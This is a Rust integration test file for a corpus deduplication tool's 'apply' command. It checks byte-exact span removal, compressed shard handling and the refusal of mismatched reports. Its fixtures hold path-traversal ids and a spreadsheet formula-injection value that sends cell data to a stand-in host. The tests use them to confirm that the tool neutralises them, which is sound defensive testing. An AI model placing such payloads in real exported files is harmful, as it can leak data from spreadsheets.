//! `dedup apply`: removes exactly the reported bytes, keeps formats, never writes outside --out,
//! refuses a report that does not fit the corpus.

mod common;
use assert_cmd::Command;
use common::*;
use std::io::Read;
use std::path::{Path, PathBuf};

const PARA: &str = "Ça a été une très longue journée à Genève 🌍, dit-elle à l’agence ce soir.";
const OTHER: &str = "Une autre phrase sans aucun rapport avec la précédente, écrite ici.";
const STORY: &str = "The central bank raised its main interest rate by half a point on Thursday, citing \
                     inflation that has run above its target for three years and a weaker currency.";

fn records() -> Vec<serde_json::Value> {
    vec![
        serde_json::json!({"id": "../../escape", "text": format!("{OTHER}\n{PARA}\n\n{PARA}\n"), "n": 1.50, "tags": ["x"]}),
        serde_json::json!({"id": "/abs/path", "text": STORY}),
        serde_json::json!({"id": "a\"b\\c", "text": STORY.to_uppercase()}),
        serde_json::json!({"id": 4, "text": "Nothing repeated in this short record at all, é."}),
    ]
}

fn decompress(path: &Path) -> String {
    let raw = std::fs::read(path).unwrap();
    let name = path.to_string_lossy();
    let mut out = String::new();
    if name.ends_with(".gz") {
        flate2::read::MultiGzDecoder::new(&raw[..])
            .read_to_string(&mut out)
            .unwrap();
    } else if name.ends_with(".zst") {
        out = String::from_utf8(zstd::decode_all(&raw[..]).unwrap()).unwrap();
    } else {
        out = String::from_utf8(raw).unwrap();
    }
    out
}

fn dedup() -> Command {
    Command::cargo_bin("dedup").unwrap()
}

/// Builds a corpus with one shard `name` and a text file, scans it to `report.csv` (with extra
/// scan args), and returns (tempdir, corpus dir, report path).
fn scanned(name: &str, args: &[&str]) -> (tempfile::TempDir, PathBuf, PathBuf) {
    let tmp = tempfile::tempdir().unwrap();
    let corpus = tmp.path().join("corpus dir ç#");
    std::fs::create_dir_all(corpus.join("sub")).unwrap();
    let plain: String = records().iter().map(|r| format!("{r}\n")).collect();
    std::fs::write(
        corpus.join("sub").join(name),
        compress(name, plain.as_bytes()),
    )
    .unwrap();
    std::fs::write(corpus.join("note.txt"), format!("{PARA}\n{PARA}\n")).unwrap();
    let report = tmp.path().join("report.csv");
    dedup()
        .arg("scan")
        .args(args)
        .arg("-o")
        .arg(&report)
        .arg(&corpus)
        .assert()
        .success();
    (tmp, corpus, report)
}

/// Every file under `dir`, relative.
fn files_under(dir: &Path) -> Vec<PathBuf> {
    let mut out: Vec<PathBuf> = walkdir::WalkDir::new(dir)
        .into_iter()
        .map(|e| e.unwrap())
        .filter(|e| e.file_type().is_file())
        .map(|e| e.path().strip_prefix(dir).unwrap().to_path_buf())
        .collect();
    out.sort();
    out
}

fn check_round_trip(name: &str, offsets: &str) {
    let (tmp, corpus, report) = scanned(name, &["--offsets", offsets]);
    let rows = parse(&std::fs::read(&report).unwrap());
    let out = tmp.path().join("clean");
    dedup()
        .args(["apply", "--offsets", offsets, "--report"])
        .arg(&report)
        .arg("--out")
        .arg(&out)
        .arg(&corpus)
        .assert()
        .success();
    // Only the corpus's own relative paths were written, all inside --out.
    assert_eq!(
        files_under(&out),
        vec![PathBuf::from("note.txt"), Path::new("sub").join(name)]
    );
    assert_eq!(
        files_under(tmp.path()).len(),
        2 + 2 + 1,
        "nothing written elsewhere"
    );

    // Record by record: the text minus its spans, every other field untouched.
    let cleaned: Vec<serde_json::Value> = decompress(&out.join("sub").join(name))
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    let mut cleaned = cleaned.into_iter();
    for (i, original) in records().into_iter().enumerate() {
        let doc = format!("sub/{name}:{}", i + 1);
        let mine: Vec<&Row> = rows.iter().filter(|r| r.doc == doc).collect();
        if mine.iter().any(|r| r.cluster.is_some()) {
            continue; // flagged whole: dropped
        }
        let text: Vec<char> = original["text"].as_str().unwrap().chars().collect();
        let bytes = original["text"].as_str().unwrap();
        let expected: String = if offsets == "chars" {
            let mut keep = vec![true; text.len()];
            for r in &mine {
                keep[r.start..r.end].iter_mut().for_each(|k| *k = false);
            }
            text.iter()
                .zip(keep)
                .filter(|(_, k)| *k)
                .map(|(c, _)| c)
                .collect()
        } else {
            let mut s = String::new();
            let mut at = 0;
            for r in &mine {
                s.push_str(&bytes[at..r.start]);
                at = r.end;
            }
            s.push_str(&bytes[at..]);
            s
        };
        let got = cleaned.next().expect("record kept");
        assert_eq!(got["text"].as_str().unwrap(), expected, "{doc}");
        let mut a = got.clone();
        let mut b = original.clone();
        a.as_object_mut().unwrap().remove("text");
        b.as_object_mut().unwrap().remove("text");
        assert_eq!(a, b, "other fields untouched");
    }
    assert!(cleaned.next().is_none());
    // The duplicate record (3, same words as 2) was dropped and the repeat cut.
    assert!(rows
        .iter()
        .any(|r| r.doc == format!("sub/{name}:3") && r.kind.as_str() == "exact_duplicate"));
    // The repeated line went with its line end: no blank line is left.
    assert_eq!(
        std::fs::read_to_string(out.join("note.txt")).unwrap(),
        format!("{PARA}\n")
    );
}

#[test]
fn round_trip_gzip_and_zstd_shards() {
    for name in ["s.jsonl.gz", "s.jsonl.zst", "s.jsonl"] {
        check_round_trip(name, "bytes");
    }
}

#[test]
fn round_trip_with_code_point_offsets() {
    check_round_trip("s.jsonl.zst", "chars");
}

#[test]
fn keep_flagged_names_the_kept_copy() {
    let (tmp, corpus, report) = scanned("s.jsonl", &[]);
    let out = tmp.path().join("clean");
    dedup()
        .args(["apply", "--keep-flagged", "--report"])
        .arg(&report)
        .arg("--out")
        .arg(&out)
        .arg(&corpus)
        .assert()
        .success();
    let lines: Vec<serde_json::Value> = std::fs::read_to_string(out.join("sub/s.jsonl"))
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(lines.len(), 4);
    assert_eq!(lines[2]["dedup_duplicate_of"], "sub/s.jsonl:2");
}

#[test]
fn a_file_named_by_absolute_path_lands_inside_out() {
    let tmp = tempfile::tempdir().unwrap();
    let file = tmp.path().join("in").join("doc.txt");
    std::fs::create_dir_all(file.parent().unwrap()).unwrap();
    std::fs::write(&file, format!("{PARA}\n{PARA}\n")).unwrap();
    let abs = file.canonicalize().unwrap();
    let report = tmp.path().join("r.csv");
    dedup()
        .arg("scan")
        .arg("-o")
        .arg(&report)
        .arg(&abs)
        .assert()
        .success();
    let out = tmp.path().join("out");
    dedup()
        .args(["apply", "--report"])
        .arg(&report)
        .arg("--out")
        .arg(&out)
        .arg(&abs)
        .assert()
        .success();
    let written = files_under(&out);
    assert_eq!(written.len(), 1);
    assert!(out.join(&written[0]).starts_with(&out));
    assert_eq!(
        std::fs::read_to_string(out.join(&written[0])).unwrap(),
        format!("{PARA}\n")
    );
}

#[test]
fn refuses_reports_that_do_not_fit_and_outputs_that_overlap() {
    let (tmp, corpus, report) = scanned("s.jsonl", &[]);
    let out = tmp.path().join("clean");
    let run = |report: &Path, out: &Path| {
        dedup()
            .args(["apply", "--report"])
            .arg(report)
            .arg("--out")
            .arg(out)
            .arg(&corpus)
            .assert()
    };
    let apply = |report: &Path, out: &Path| run(report, out).code(1);
    // Output inside the corpus: a usage error.
    run(&report, &corpus.join("x"))
        .code(2)
        .stderr(predicates::str::contains("refusing to overwrite"));
    assert!(!corpus.join("x").exists());
    // A span past the end of its document.
    let text = std::fs::read_to_string(&report).unwrap();
    let bad = tmp.path().join("bad.csv");
    let shifted = text.replacen("note.txt,", "note.txt,9", 1);
    std::fs::write(&bad, &shifted).unwrap();
    apply(&bad, &out).stderr(predicates::str::contains("report row 2"));
    // A document missing from the corpus.
    std::fs::write(&bad, text.replace("note.txt", "gone.txt")).unwrap();
    let fresh = tmp.path().join("fresh");
    apply(&bad, &fresh).stderr(predicates::str::contains("'gone.txt' is not in the corpus"));
    assert!(!fresh.exists(), "refused before anything was written");
    // A record past the end of its shard.
    std::fs::write(&bad, text.replace("sub/s.jsonl:1,", "sub/s.jsonl:99,")).unwrap();
    apply(&bad, &fresh).stderr(predicates::str::contains(
        "'sub/s.jsonl:99' is not in the corpus",
    ));
    // A report made with other options (another text field): the text at the span differs.
    std::fs::write(
        corpus.join("note.txt"),
        format!("{OTHER}\n{PARA}\n{PARA}\n"),
    )
    .unwrap();
    apply(&report, &out).stderr(predicates::str::contains("is not"));
}

/// A gzip shard with a damaged tail: `apply` writes the records the scan read, with their cuts,
/// names the damage in a warning and exits 3, as the scan did.
#[test]
fn a_damaged_gzip_shard_is_applied_as_the_scan_read_it() {
    let tmp = tempfile::tempdir().unwrap();
    let corpus = tmp.path().join("corpus");
    std::fs::create_dir(&corpus).unwrap();
    let mut plain = String::new();
    for i in 0..400u64 {
        let text = format!("{}\n{PARA}\n{PARA}\n", own_words(i));
        plain.push_str(&format!("{}\n", serde_json::json!({"id": i, "text": text})));
    }
    let packed = compress("s.jsonl.gz", plain.as_bytes());
    std::fs::write(corpus.join("s.jsonl.gz"), &packed[..packed.len() * 3 / 4]).unwrap();
    let report = tmp.path().join("r.csv");
    let scan = dedup()
        .args(["scan", "--detect", "repeated", "-o"])
        .arg(&report)
        .arg(&corpus)
        .assert()
        .code(3);
    let scan_err = String::from_utf8_lossy(&scan.get_output().stderr).into_owned();
    let damage = scan_err
        .lines()
        .find(|l| l.contains("the rest of the shard is not read"))
        .expect("the scan names the damage")
        .to_string();
    let rows = parse(&std::fs::read(&report).unwrap());
    let read = rows.len();
    assert!(read > 10, "{read} rows");
    let out = tmp.path().join("clean");
    let apply = dedup()
        .args(["apply", "--report"])
        .arg(&report)
        .arg("--out")
        .arg(&out)
        .arg(&corpus)
        .assert()
        .code(3);
    let apply_err = String::from_utf8_lossy(&apply.get_output().stderr).into_owned();
    // The same warning: the file, the line, the reason.
    let tail = damage.split_once(": skipped: ").unwrap().1;
    assert!(apply_err.contains(tail), "{apply_err}\nscan said: {damage}");
    // Every record read is written, each with its repeat cut.
    let written: Vec<serde_json::Value> = decompress(&out.join("s.jsonl.gz"))
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(written.len(), read);
    for (i, rec) in written.iter().enumerate() {
        let text = format!("{}\n{PARA}\n", own_words(i as u64));
        assert_eq!(rec["text"].as_str().unwrap(), text);
    }
}

/// Sixty words of their own for record `i`: records that are not near duplicates of each other.
fn own_words(i: u64) -> String {
    let mut rng = Rng(i.wrapping_mul(0x9e37_79b9_7f4a_7c15) | 1);
    (0..60)
        .map(|_| format!("w{}", rng.below(100_000)))
        .collect::<Vec<_>>()
        .join(" ")
}

/// A report from another corpus with the same names is refused, and `--out` is left as it was:
/// absent when it was absent, with only its own files when it existed.
#[test]
fn a_mismatched_report_leaves_out_untouched() {
    let (tmp, corpus, report) = scanned("s.jsonl.gz", &[]);
    // Another corpus with the same names: its note.txt has other text.
    let other = tmp.path().join("other");
    std::fs::create_dir_all(other.join("sub")).unwrap();
    std::fs::copy(corpus.join("sub/s.jsonl.gz"), other.join("sub/s.jsonl.gz")).unwrap();
    std::fs::write(
        other.join("note.txt"),
        format!("{OTHER}\n{OTHER}\n{PARA}\n"),
    )
    .unwrap();
    for existing in [false, true] {
        let out = tmp.path().join(format!("clean-{existing}"));
        if existing {
            std::fs::create_dir(&out).unwrap();
            std::fs::write(out.join("mine.txt"), "kept").unwrap();
        }
        dedup()
            .args(["apply", "--report"])
            .arg(&report)
            .arg("--out")
            .arg(&out)
            .arg(&other)
            .assert()
            .code(1)
            .stderr(predicates::str::contains("note.txt"));
        if existing {
            assert_eq!(files_under(&out), [PathBuf::from("mine.txt")]);
        } else {
            assert!(!out.exists(), "--out was created");
        }
        // Nothing left beside it either.
        let leftovers: Vec<_> = std::fs::read_dir(tmp.path())
            .unwrap()
            .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
            .filter(|n| n.starts_with(".dedup"))
            .collect();
        assert!(leftovers.is_empty(), "{leftovers:?}");
    }
}

/// A preview (or id) that a spreadsheet would run as a formula is written with a leading `'`,
/// and `apply` reads it back: the check against the text still holds.
#[test]
fn formula_cells_are_neutralised_and_apply_still_checks_them() {
    let tmp = tempfile::tempdir().unwrap();
    let corpus = tmp.path().join("corpus");
    std::fs::create_dir(&corpus).unwrap();
    let formula = "=HYPERLINK(\"http://x.example/?\"&A1, \"Click here to see the whole list\")";
    std::fs::write(
        corpus.join("a.txt"),
        format!("{PARA}\n\n{formula}\n\n{formula}\n"),
    )
    .unwrap();
    let rec = serde_json::json!({"id": "-1+1", "text": format!("{STORY}\n@SUM(A1:A9) is what the sheet gives\n@SUM(A1:A9) is what the sheet gives\n")});
    std::fs::write(corpus.join("s.jsonl"), format!("{rec}\n")).unwrap();
    let report = tmp.path().join("r.csv");
    dedup()
        .args(["scan", "--no-furniture", "-o"])
        .arg(&report)
        .arg(&corpus)
        .assert()
        .success();
    let text = std::fs::read_to_string(&report).unwrap();
    let rows = parse(text.as_bytes());
    assert_eq!(rows.len(), 2, "{text}");
    // In the file, with the leading `'`; read back, as it was.
    assert!(text.contains("\"'=HYPERLINK"), "{text}");
    assert!(text.contains(",'-1+1,"), "{text}");
    assert!(rows[0].preview.starts_with("=HYPERLINK"), "{text}");
    assert_eq!(rows[1].id.as_deref(), Some("-1+1"));
    assert!(rows[1].preview.starts_with("@SUM"), "{text}");
    // No cell of the file starts with a formula character.
    for line in text.lines().skip(1) {
        for field in csv::ReaderBuilder::new()
            .has_headers(false)
            .from_reader(line.as_bytes())
            .records()
            .next()
            .unwrap()
            .unwrap()
            .iter()
        {
            assert!(
                !field.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{field:?}"
            );
        }
    }
    let out = tmp.path().join("clean");
    dedup()
        .args(["apply", "--report"])
        .arg(&report)
        .arg("--out")
        .arg(&out)
        .arg(&corpus)
        .assert()
        .success();
    assert_eq!(
        std::fs::read_to_string(out.join("a.txt")).unwrap(),
        format!("{PARA}\n\n{formula}\n\n")
    );
}

/// A JSONL report is a report too: `apply` cuts the same bytes as with the CSV one.
#[test]
fn apply_reads_the_jsonl_report() {
    let (tmp, corpus, csv_report) = scanned("s.jsonl.zst", &[]);
    let jsonl_report = tmp.path().join("report.jsonl");
    dedup()
        .args(["scan", "--format", "jsonl", "-o"])
        .arg(&jsonl_report)
        .arg(&corpus)
        .assert()
        .success();
    let (a, b) = (tmp.path().join("from-csv"), tmp.path().join("from-jsonl"));
    for (report, out) in [(&csv_report, &a), (&jsonl_report, &b)] {
        dedup()
            .args(["apply", "--report"])
            .arg(report)
            .arg("--out")
            .arg(out)
            .arg(&corpus)
            .assert()
            .success();
    }
    for f in files_under(&a) {
        assert_eq!(decompress(&a.join(&f)), decompress(&b.join(&f)), "{f:?}");
    }
    assert_eq!(files_under(&a), files_under(&b));
}
